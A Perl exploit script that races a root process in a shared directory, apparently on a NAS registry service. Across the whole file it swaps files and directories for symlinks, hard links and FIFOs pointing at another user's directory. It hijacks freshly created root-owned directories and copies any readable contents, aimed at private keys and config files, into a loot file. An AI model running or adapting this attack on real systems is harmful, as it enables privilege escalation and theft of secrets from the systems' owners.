#!/usr/bin/perl
# Somebody who may write in a shared folder races root: as fast as it goes, other things take the place of those that root makes
# or looks at there, get into them, and whatever can be read is kept.
#
# racer.pl SHARE OUTSIDE LOOT: OUTSIDE is a directory of somebody else's, LOOT a file of our own.
use strict;
use warnings;
use Fcntl qw(O_CREAT O_EXCL O_NONBLOCK O_RDONLY O_WRONLY);
use POSIX qw(mkfifo);

my ($share, $outside, $loot) = @ARGV;
# Seconds, should nobody end it.
my $longest = 1200;
# The last two are where configuration and keys would be if they were in reach.
my @names = qw(registry-data registry-data moved registry-config registry-config/registry);
my @inner = qw(.nas-registry docker registry-data moved registry private-key.pem.new config.yml.new private-key.pem);

# What can stand under a name.
my @things = (
    sub { symlink $outside, $_[0] },
    sub { symlink "$outside/inside", $_[0] },
    sub { mkdir $_[0], 0777 },
    sub { mkdir $_[0], 0700 and mkdir "$_[0]/docker" },
    sub { mkdir $_[0], 0700 and symlink $outside, "$_[0]/docker" },
    sub { mkfifo $_[0], 0666 },
    sub { sysopen my $file, $_[0], O_WRONLY | O_CREAT | O_EXCL },
    sub { link "$outside/inside", $_[0] },
);

sub put { $things[rand @things]->($_[0]) }

sub away {
    my ($name) = @_;
    unlink $name or rmdir $name or rename $name, ".away-" . int rand 1e9;
}

sub keep {
    my ($name) = @_;
    sysopen my $file, $name, O_RDONLY | O_NONBLOCK or return;
    return unless -f $file;
    sysread $file, my $text, 100_000;
    open my $kept, '>>', $loot or die "$loot: $!";
    print $kept "$name: $text\n" if defined $text;
}

sub nap { select undef, undef, undef, rand($_[0]) if rand() < 0.4 }

# Inside whatever has one of the names, for as long as it lets us.
if (!fork) {
    alarm $longest;
    for (;;) {
        chdir $share or exit;
        if (chdir $names[rand @names]) {
            for (1 .. 50) {
                my $name = $inner[rand @inner];
                if (rand() < 0.5) { put($name) } else { away($name) }
                opendir my $here, '.' or last;
                keep($_) for readdir $here;
            }
        }
        nap(0.005);
    }
}

# In the moment after root has made one: a link takes its place.
if (!fork) {
    alarm $longest;
    chdir $share or exit;
    my %spared;
    for (;;) {
        for my $name (qw(registry-data moved)) {
            my ($inode, $owner, $changed) = (lstat $name)[1, 4, 10];
            next unless defined $owner && $owner == 0 && -d _ && !$spared{"$inode $changed"};
            if (rand() < 0.4) { $spared{"$inode $changed"} = 1; next }
            select undef, undef, undef, rand 0.005 if rand() < 0.5;
            rename $name, ".hit-$inode" and symlink $outside, $name;
        }
        # Or root would have one processor less.
        select undef, undef, undef, 0.00005;
    }
}

# In their places.
alarm $longest;
chdir $share or die "$share: $!";
for (;;) {
    my $name = $names[rand @names];
    my $what = rand;
    if ($what < 0.4) { put($name) }
    elsif ($what < 0.7) { away($name) }
    elsif (rename $name, '.taken') {
        put($name);
        nap(0.02);
        away($name) if rand() < 0.7;
        rename '.taken', $name;
    }
    # Rests in between, or root would never get past its first look.
    nap(0.4);
}
